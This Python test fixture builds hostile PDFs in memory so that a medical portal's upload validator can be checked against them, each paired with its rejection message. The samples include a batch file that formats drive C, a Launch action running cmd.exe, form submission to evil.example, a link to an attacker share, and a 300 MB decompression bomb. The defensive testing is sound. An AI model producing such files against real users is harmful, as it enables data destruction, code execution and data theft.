"""Hostile PDFs from the security trial (issue 12), built with pypdf in memory.

Each ``Hostile`` carries the sentence the doctor must read; ``hostile_pdfs()`` is shared by
the validation tests and the upload tests (service, portal, admin).
"""

from __future__ import annotations

import functools
import io
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    EncodedStreamObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from documents import validation

SUBMIT_URL = "https://evil.example/collect"


def written(writer: PdfWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_object(value: Any) -> Any:
    """Plain Python values as PDF objects: "/Name" strings become names, lists arrays."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(k): pdf_object(v) for k, v in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_object(item) for item in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    return value


def action(kind: str, **entries: Any) -> DictionaryObject:
    return pdf_object({"/Type": "/Action", "/S": kind, **{f"/{k}": v for k, v in entries.items()}})


def blank(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer


def build(change: Callable[[PdfWriter], Any], pages: int = 1) -> bytes:
    writer = blank(pages)
    change(writer)
    return written(writer)


def set_entry(writer: PdfWriter, target: DictionaryObject, key: str, value: Any) -> None:
    target[NameObject(key)] = (
        writer._add_object(pdf_object(value)) if isinstance(value, dict) else pdf_object(value)
    )


def open_action(value: Any) -> Callable[[PdfWriter], None]:
    return lambda writer: set_entry(writer, writer.root_object, "/OpenAction", value)


def page_open_action(value: Any) -> Callable[[PdfWriter], None]:
    return lambda writer: set_entry(writer, writer.pages[0], "/AA", {"/O": value})


def catalog_additional_action(value: Any) -> Callable[[PdfWriter], None]:
    return lambda writer: set_entry(writer, writer.root_object, "/AA", {"/WC": value})


def attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00\x03" + bytes(59) + b"PE\x00\x00")


def file_attachment_annotation(writer: PdfWriter) -> None:
    payload = DecodedStreamObject()
    payload.set_data(b"@echo off\r\nformat c: /q\r\n")
    payload[NameObject("/Type")] = NameObject("/EmbeddedFile")
    filespec = pdf_object({"/Type": "/Filespec", "/F": "payload.bat", "/UF": "payload.bat"})
    filespec[NameObject("/EF")] = DictionaryObject({NameObject("/F"): writer._add_object(payload)})
    annotation = pdf_object(
        {
            "/Type": "/Annot",
            "/Subtype": "/FileAttachment",
            "/Rect": [50, 50, 70, 70],
            "/Name": "/PushPin",
        }
    )
    annotation[NameObject("/FS")] = writer._add_object(filespec)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def link_with(value: DictionaryObject) -> Callable[[PdfWriter], None]:
    """A link annotation whose click runs ``value``."""

    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://example.org/"))
        annotation = writer.pages[0]["/Annots"][0].get_object()
        annotation[NameObject("/A")] = value

    return change


def form_field(**entries: Any) -> Callable[[PdfWriter], None]:
    """An AcroForm push button ("Send") on page 1 with ``entries`` (/A, /AA)."""

    def change(writer: PdfWriter) -> None:
        field = pdf_object(
            {
                "/Type": "/Annot",
                "/Subtype": "/Widget",
                "/FT": "/Btn",
                "/Ff": 65536,
                "/T": "Send",
                "/Rect": [50, 50, 150, 80],
                **{f"/{k}": v for k, v in entries.items()},
            }
        )
        reference = writer._add_object(field)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([reference])
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([reference])}
        )

    return change


def outline_with(value: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        item = writer.add_outline_item(title="Results", page_number=0)
        item.get_object()[NameObject("/A")] = value

    return change


def xfa_form(writer: PdfWriter) -> None:
    template = DecodedStreamObject()
    template.set_data(b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/>')
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): ArrayObject(
                [TextStringObject("template"), writer._add_object(template)]
            ),
        }
    )


def rich_media(writer: PdfWriter) -> None:
    annotation = pdf_object(
        {"/Type": "/Annot", "/Subtype": "/RichMedia", "/Rect": [50, 50, 300, 300]}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def script_behind_a_harmless_action(writer: PdfWriter) -> None:
    go_to = action("/GoTo", D=[writer.pages[0].indirect_reference, "/Fit"])
    go_to[NameObject("/Next")] = action("/JavaScript", JS="app.launchURL('x')")
    writer.root_object[NameObject("/OpenAction")] = go_to


def flate_stream(data: bytes, *, filters: list[str] | None = None) -> EncodedStreamObject:
    stream = EncodedStreamObject()
    stream._data = data  # already encoded: set_data would re-check it against /Filter
    names = filters or ["/FlateDecode"]
    stream[NameObject("/Filter")] = (
        NameObject(names[0]) if len(names) == 1 else ArrayObject(NameObject(n) for n in names)
    )
    return stream


def zeros_deflated(megabytes: int, *, wbits: int = zlib.MAX_WBITS) -> bytes:
    """``megabytes`` MB of zeros, deflated a megabyte at a time (never all in memory)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    block = bytes(1024 * 1024)
    parts = [compressor.compress(block) for _ in range(megabytes)]
    return b"".join([*parts, compressor.flush()])


def pdf_with_content(stream: EncodedStreamObject) -> bytes:
    """A one-page PDF whose page content is ``stream``."""
    writer = blank()
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
    return written(writer)


@functools.cache
def bomb(megabytes: int) -> bytes:
    """A page content stream of ``megabytes`` MB of zeros (about 1 KB per MB compressed)."""
    return pdf_with_content(flate_stream(zeros_deflated(megabytes)))


class Hostile(NamedTuple):
    label: str
    data: bytes
    code: str
    message: str


@functools.cache
def hostile_pdfs() -> tuple[Hostile, ...]:
    """Built once per test run (the bomb takes a second to deflate)."""
    js = validation.PDF_ACTIVE_CONTENT
    redo = "print it to a new PDF (or scan it) and upload that."
    script = action("/JavaScript", JS="app.alert('hi')")
    submit = action("/SubmitForm", F={"/FS": "/URL", "/F": SUBMIT_URL})
    submit_message = (
        f"This PDF has a form that sends its contents to another address ({SUBMIT_URL}); {redo}"
    )
    return (
        Hostile(
            "attached .exe",
            build(attachment),
            "pdf_embedded_file",
            "This PDF carries an attached file (invoice.exe); upload a PDF without attachments.",
        ),
        Hostile(
            "file attachment annotation",
            build(file_attachment_annotation),
            "pdf_embedded_file",
            "This PDF carries an attached file (payload.bat); upload a PDF without attachments.",
        ),
        Hostile(
            "document JavaScript (name tree)",
            build(lambda writer: writer.add_open_action(JavaScript("app.alert(1)"))),
            "pdf_active_content",
            js,
        ),
        Hostile("JavaScript open action", build(open_action(script)), "pdf_active_content", js),
        Hostile(
            "JavaScript on page open", build(page_open_action(script)), "pdf_active_content", js
        ),
        Hostile(
            "JavaScript before closing",
            build(catalog_additional_action(script)),
            "pdf_active_content",
            js,
        ),
        Hostile(
            "JavaScript in a link annotation", build(link_with(script)), "pdf_active_content", js
        ),
        Hostile(
            "JavaScript in a form field keystroke",
            build(form_field(AA={"/K": script})),
            "pdf_active_content",
            js,
        ),
        Hostile("JavaScript in a bookmark", build(outline_with(script)), "pdf_active_content", js),
        Hostile(
            "JavaScript behind a go-to action",
            build(script_behind_a_harmless_action),
            "pdf_active_content",
            js,
        ),
        Hostile(
            "launch action",
            build(open_action(action("/Launch", Win={"/F": "cmd.exe", "/P": "/c calc.exe"}))),
            "pdf_launch",
            f"This PDF tries to start a program or open a file on the computer (cmd.exe); {redo}",
        ),
        Hostile(
            "submit form on open", build(open_action(submit)), "pdf_submit_form", submit_message
        ),
        Hostile(
            "form field that submits",
            build(form_field(A=submit)),
            "pdf_submit_form",
            submit_message,
        ),
        Hostile(
            "import data",
            build(open_action(action("/ImportData", F="C:\\data\\patient.fdf"))),
            "pdf_import_data",
            "This PDF has a form that loads data from another file (C:\\data\\patient.fdf); "
            + redo,
        ),
        Hostile(
            "link to a file on another computer",
            build(link_with(action("/GoToR", F="\\\\attacker\\share\\report.pdf", D=[0, "/Fit"]))),
            "pdf_remote_file",
            f"This PDF opens another document (\\\\attacker\\share\\report.pdf); {redo}",
        ),
        Hostile(
            "go to an embedded document",
            build(open_action(action("/GoToE", T={"/R": "/C", "/N": "inner"}, D=[0, "/Fit"]))),
            "pdf_remote_file",
            f"This PDF opens another document; {redo}",
        ),
        Hostile(
            "web address on open",
            build(open_action(action("/URI", URI="https://tracker.example/opened?id=42"))),
            "pdf_opens_uri",
            "This PDF opens a web address by itself when it is viewed "
            f"(https://tracker.example/opened?id=42); {redo}",
        ),
        Hostile(
            "web address on page open",
            build(page_open_action(action("/URI", URI="https://tracker.example/page"))),
            "pdf_opens_uri",
            "This PDF opens a web address by itself when it is viewed "
            f"(https://tracker.example/page); {redo}",
        ),
        Hostile(
            "rich media",
            build(rich_media),
            "pdf_rich_media",
            f"This PDF embeds media (video, sound or Flash) that can run code; {redo}",
        ),
        Hostile(
            "XFA form",
            build(xfa_form),
            "pdf_xfa",
            "This PDF is a dynamic (XFA) form, which can run scripts; "
            "fill it in, print it to a new PDF and upload that.",
        ),
        Hostile(
            "encrypted",
            build(lambda writer: writer.encrypt("patient-dob", "owner")),
            "pdf_encrypted",
            validation.PDF_ENCRYPTED,
        ),
        Hostile(
            "small file expanding to 300 MB",
            bomb(300),
            "pdf_too_large_decompressed",
            "This PDF expands to more than 256 MB when it is opened, far more than a scanned "
            "report needs; scan it again at a lower resolution (or split it) and upload that.",
        ),
        Hostile(
            "damaged",
            build(lambda writer: None)[:-200] + b"\n%%EOF\n",
            "pdf_unreadable",
            validation.PDF_UNREADABLE,
        ),
    )
